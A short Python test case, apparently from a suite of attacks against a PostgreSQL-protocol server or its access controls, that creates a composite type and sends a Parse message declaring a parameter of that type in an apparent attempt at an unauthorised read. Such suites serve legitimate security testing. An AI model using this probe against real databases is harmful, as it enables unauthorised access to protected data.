"""Prepares a constant whose type is that which is declared of a parameter beside it."""

from attacks.frames import SYNC, ask, parse, query
from attacks.talking import Server

WANTS = "read"


def attack(server: Server) -> bytes:
    with server.login() as client:
        ask(client, query(b"CREATE TYPE pair AS (a account_id)"))
        with server.connect() as connection:
            found = connection.execute("SELECT oid FROM pg_type WHERE typname = 'pair'")
            row = found.fetchone()
        assert row is not None
        return ask(client, parse(b"SELECT coalesce($1, '(999)')", types=[int(str(row[0]))]), SYNC)
